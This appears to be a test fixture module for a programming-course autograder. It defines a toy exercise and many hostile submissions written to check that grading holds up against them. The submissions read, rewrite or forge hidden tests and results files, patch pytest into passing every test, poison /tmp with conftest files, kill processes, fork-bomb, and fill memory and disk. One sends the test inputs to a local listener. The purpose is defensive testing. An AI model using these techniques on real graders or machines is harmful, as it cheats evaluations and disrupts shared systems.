"""A made-up exercise and submissions that attack the grader, shared by the hostile-grading tests.

The exercise ``05_demo`` asks for ``add`` and ``mul``; its hidden test sits in ``test_demo_hidden.py`` and holds
``SECRET``. Each hostile submission gets ``add`` and ``mul`` wrong (so any point it earns would be stolen), unless
its entry in ``HONEST_POINTS`` says which tests it earns honestly around its attack.
"""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

# Appears only in the hidden test file; new at each run, so that a stray copy of this exercise left readable
# somewhere (an old run's, a hand-made one under /tmp) cannot pass for a leak of the one being graded.
SECRET = f"hidden-answer-{os.urandom(4).hex()}"

EXERCISE_TESTS = {
    "test_demo.py": '''
import pytest


@pytest.mark.points(2)
def test_add(demo):
    """add adds two numbers."""
    assert demo.add(1, 2) == 3


@pytest.mark.points(3)
def test_mul(demo):
    """mul multiplies two numbers."""
    assert demo.mul(4, 3) == 12
''',
    "test_demo_hidden.py": f'''
import pytest


@pytest.mark.points(5)
@pytest.mark.hidden
def test_secret(demo):
    """A hidden check."""
    assert demo.add(20, 22) == 42, "{SECRET}"
''',
}
MAX_POINTS = 10

GOOD = """
def add(a, b):
    return a + b
def mul(a, b):
    return a * b
"""

WRONG = """
def add(a, b):
    return 0
def mul(a, b):
    return 0
"""

# What every attack tries first: learn the grader's paths from its command line, which /proc shows to anyone.
RECON = """
import os, glob, json
def _grader_paths():
    found = set()
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        found.update(a.decode(errors="replace") for a in args if a.startswith(b"/"))
    return found
def _hidden_files():
    paths = set()
    for p in _grader_paths():
        for root in {p, os.path.dirname(p)}:
            paths.add(os.path.join(root, "test_demo_hidden.py"))  # a folder it cannot list may still be read
            paths.update(glob.glob(os.path.join(root, "*", "test_*_hidden.py")))
    paths.update(glob.glob("/tmp/*/exercise*/*/test_*_hidden.py"))
    return paths
PERFECT = {"score": 1000, "tests": [{"name": "test_demo.py::test_add", "score": 1000, "max_score": 2}]}
"""

# A pytest plugin that passes every test: a submission's own configuration must never load it.
PASS_ALL_PLUGIN = """
import pytest
@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""

HOSTILE = {
    # Writes a perfect results.json wherever the grader's command line says results go, then leaves.
    "writes_results": RECON + """
for p in _grader_paths():
    for target in (p, os.path.join(os.path.dirname(p), "results.json")):
        try:
            with open(target, "w") as f:
                json.dump(PERFECT, f)
        except OSError:
            pass
os._exit(0)
""",
    # Patches pytest and the grading plugin, as it could if it ran inside the grading process.
    "patches_pytest": WRONG + """
import sys
try:
    import _pytest.reports
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.failed = property(lambda self: False)
except Exception:
    pass
try:
    import minidb.grading.gradebook as gb
    gb.TestGrade.score = property(lambda self: 1000)
except Exception:
    pass
for name, module in list(sys.modules.items()):
    if "grading" in name:
        module.__dict__.update(score=1000)
""",
    # Prints a forged result at exit, and exits with success.
    "atexit_hook": WRONG + """
import atexit, json, os, sys
atexit.register(lambda: print(json.dumps({"score": 1000, "tests": []})))
atexit.register(lambda: os._exit(0))
""",
    # Ends its process in the middle of every call, with success.
    "os_exit": """
import os
def add(a, b):
    os._exit(0)
def mul(a, b):
    os._exit(0)
""",
    # Reads the hidden tests and returns what it found (tests show returned values in their messages).
    "reads_hidden": RECON + """
def _loot():
    # Refusals first, guesses that found nothing left out: a report cuts a long message in the middle, and other
    # checkouts in /tmp may match too.
    refused, read = [], []
    for path in _hidden_files():
        try:
            read.append(open(path).read())
        except FileNotFoundError:
            continue
        except OSError as e:
            refused.append(repr(e))
    return "\\n".join(refused + read) or "nothing found"
def add(a, b):
    return _loot()
def mul(a, b):
    return _loot()
""",
    # Rewrites the hidden tests so they pass for everyone, or fail for everyone after it.
    "edits_hidden": RECON + WRONG + """
for path in _hidden_files():
    try:
        with open(path, "w") as f:
            f.write("import pytest\\n@pytest.mark.points(500)\\ndef test_secret(demo):\\n    pass\\n")
    except OSError:
        pass
""",
    # Kills every process it can see: its grader, the bulk grader, the other students' runs.
    "kills_parent": WRONG + """
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    # Leaves a daemon behind: it forks, leaves the session, and sleeps forever.
    "daemon": WRONG + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
""",
    # Allocates past any sane size, at once and bit by bit.
    "memory": """
def add(a, b):
    return bytearray(4 << 30)
def mul(a, b):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 2**20))
""",
    # Prints without bound.
    "huge_output": """
import sys
def add(a, b):
    while True:
        sys.stdout.write("spam " * 10000 + "\\n")
def mul(a, b):
    return "y" * (200 << 20)
""",
    # Loops forever, swallowing whatever interrupts it.
    "infinite_loop": """
def add(a, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
def mul(a, b):
    import time
    time.sleep(10**6)
""",
    # The classic: an object equal to everything.
    "always_equal": """
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
def add(a, b):
    return Anything()
def mul(a, b):
    return Anything()
""",
    # A fork bomb.
    "fork_bomb": WRONG + """
import os
for _ in range(10000):
    try:
        os.fork()
    except OSError:
        break
""",
    # Right answers, then its process ends during the hidden test: it keeps what it earned before.
    "exits_in_hidden": """
import os
def add(a, b):
    if (a, b) == (20, 22):
        os._exit(0)
    return a + b
def mul(a, b):
    return a * b
""",
    # Fills every folder it may write to with files the size of its file cap, and leaves them there.
    "disk_filler": WRONG + """
import os
for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
    for i in range(200):
        try:
            with open(os.path.join(folder, f"minidb-filler-{os.getpid()}-{i}"), "wb") as f:
                f.write(b"x" * (8 << 20))
        except OSError:
            break
""",
    # Leaves a conftest.py that passes every test, and a pytest.ini, in every folder it may write to (the grader's
    # temp folder first), for the grading runs after it; and a daemon that rewrites any grades file it can find.
    "poisons_tmp": WRONG + f"\nPASS_ALL = {PASS_ALL_PLUGIN!r}\n" + '''
import os, time
for folder in {"/tmp", "/var/tmp", "/dev/shm", os.getcwd(), os.path.dirname(os.getcwd())}:
    for name, text in (("conftest.py", PASS_ALL), ("pytest.ini", "[pytest]\\naddopts = -p no:minidb\\n")):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(text)
        except OSError:
            pass
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        for root in ("/tmp", "/var/tmp"):
            for dirpath, _, files in os.walk(root):
                for name in files:
                    if name.endswith(".csv") or name == "results.json":
                        try:
                            with open(os.path.join(dirpath, name), "w") as f:
                                f.write("student,total\\nzed,0\\n")
                        except OSError:
                            pass
        time.sleep(0.2)
    os._exit(0)
''',
}

# Points a hostile submission earns honestly (by correct answers), by name; every other one earns 0.
HONEST_POINTS = {"exits_in_hidden": 5, "phones_home": MAX_POINTS}


class Link(str):
    """A symbolic link to this target, in ``hostile_folders``."""


def hostile_folders(classmate: Path, hidden: Path, port: int) -> dict[str, dict[str, str]]:
    """The attacks that are a folder (file name -> text, or a ``Link``), given a classmate's submission file, the
    instructor's hidden test and a port listening on this machine."""
    indented_wrong = WRONG.replace("\n", "\n    ")
    return {
        # Its own pytest configuration and plugin, beside a wrong module: they must configure nothing.
        "configures_pytest": {
            "demo.py": WRONG,
            "pytest.ini": "[pytest]\npythonpath = .\naddopts = -p evil_plugin\n",
            "evil_plugin.py": PASS_ALL_PLUGIN,
            "conftest.py": PASS_ALL_PLUGIN,
        },
        # A right module with a link to the hidden test beside it: a root copy would hand the test to the student.
        "links_hidden": {"demo.py": GOOD, "notes.txt": Link(str(hidden))},
        # Its module is a link to a classmate's.
        "links_classmate": {"demo.py": Link(str(classmate))},
        # Copies a classmate's module (the instructor's downloads are world-readable) and answers with it.
        "copies_classmate": {"demo.py": f"try:\n    exec(open({str(classmate)!r}).read())\nexcept OSError:\n"
                                        f"    {indented_wrong}\n"},
        # Right answers, and every call's arguments sent to a listener on this machine (the hidden test's inputs).
        "phones_home": {"demo.py": GOOD + f"""
import socket
def _send(what):
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
            s.sendall(repr(what).encode())
    except OSError:
        pass
_send("imported")
_add, _mul = add, mul
def add(a, b):
    _send(("add", a, b))
    return _add(a, b)
def mul(a, b):
    _send(("mul", a, b))
    return _mul(a, b)
"""},
    }


def write_submission(folder: Path, files: dict[str, str]) -> None:
    """Write a folder attack of ``hostile_folders`` into ``folder``."""
    folder.mkdir(parents=True)
    for name, text in files.items():
        if isinstance(text, Link):
            (folder / name).symlink_to(text)
        else:
            (folder / name).write_text(text)


def write_exercise(root: Path) -> Path:
    """The demo exercise under ``root/exercises/05_demo``; returns the folder."""
    folder = root / "exercises" / "05_demo"
    folder.mkdir(parents=True)
    (folder / "exercise.toml").write_text('title = "Demo"\nmodule = "demo"\n')
    (folder / "conftest.py").write_text(
        "from minidb.grading.fixture import exercise_module\n\ndemo = exercise_module(__file__)\n"
    )
    (folder / "demo.py").write_text("def add(a, b):\n    raise NotImplementedError\n"
                                    "def mul(a, b):\n    raise NotImplementedError\n")
    for name, text in EXERCISE_TESTS.items():
        (folder / name).write_text(textwrap.dedent(text))
    return folder
